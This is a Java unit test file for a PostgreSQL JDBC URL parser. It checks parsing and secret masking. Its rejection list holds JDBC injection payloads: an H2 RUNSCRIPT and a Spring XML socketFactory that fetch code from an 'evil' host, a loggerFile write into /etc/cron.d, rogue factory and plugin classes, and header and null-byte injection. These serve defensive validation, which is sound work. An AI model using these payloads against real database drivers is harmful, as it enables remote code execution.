package dev.baton.sql.source;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.baton.plan.ProblemException;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {
    @Test
    void an_address_is_taken_apart_and_built_anew() {
        var written = JdbcUrl.parse("jdbc:postgresql://db.example.org:5433/sales?sslmode=require");

        assertThat(written.url())
                .isEqualTo(
                        new JdbcUrl("db.example.org", 5433, "sales", Map.of("sslmode", "require")));
        assertThat(written.url().jdbc()).isEqualTo("jdbc:postgresql://db.example.org:5433/sales");
        assertThat(written.user()).isEmpty();
    }

    @Test
    void the_other_form_may_hold_a_login_which_is_not_shown() {
        var written = JdbcUrl.parse("postgresql://ann:s%40cret%3A@[::1]/my%20db?connect_timeout=3");

        assertThat(written.user()).contains("ann");
        assertThat(written.password().orElseThrow().reveal()).isEqualTo("s@cret:");
        assertThat(written.toString()).doesNotContain("s@cret");
        assertThat(written.url().port()).isEqualTo(5432);
        assertThat(written.url().jdbc()).isEqualTo("jdbc:postgresql://[::1]:5432/my%20db");
        assertThat(written.url().parameters()).containsEntry("connectTimeout", "3");
    }

    @Test
    void a_login_among_the_parameters_is_no_parameter() {
        var written = JdbcUrl.parse("jdbc:postgresql://h/d?user=ann&password=secret");

        assertThat(written.user()).contains("ann");
        assertThat(written.url().parameters()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "sales",
                "jdbc:mysql://h/d",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:postgresql:sales",
                "jdbc:postgresql://h",
                "jdbc:postgresql:///d",
                "jdbc:postgresql://h1,h2/d",
                "jdbc:postgresql://h:99999/d",
                "jdbc:postgresql://h:5x/d",
                "jdbc:postgresql://h/d?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://h/d?sslfactory=evil.Factory",
                "jdbc:postgresql://h/d?loggerFile=/etc/cron.d/x",
                "jdbc:postgresql://h/d?options=-c%20default_transaction_read_only%3Doff",
                "jdbc:postgresql://h/d?preferQueryMode=simple",
                "jdbc:postgresql://h/d?authenticationPluginClassName=evil.Plugin",
                "jdbc:postgresql://h/d?sslmode=require%0aSet-Cookie",
                "jdbc:postgresql://ho st/d",
                "jdbc:postgresql://h%00/d",
                "postgresql://u:p%zz@h/d",
            })
    void any_other_address_is_refused_without_repeating_secrets(String text) {
        assertThatThrownBy(() -> JdbcUrl.parse(text))
                .isInstanceOfSatisfying(
                        ProblemException.class,
                        e -> {
                            assertThat(e.problem().cause().status()).isEqualTo(400);
                            assertThat(e.problem().suggestions()).isNotEmpty();
                            assertThat(e.getMessage()).doesNotContain("evil", "p%zz");
                        });
    }
}
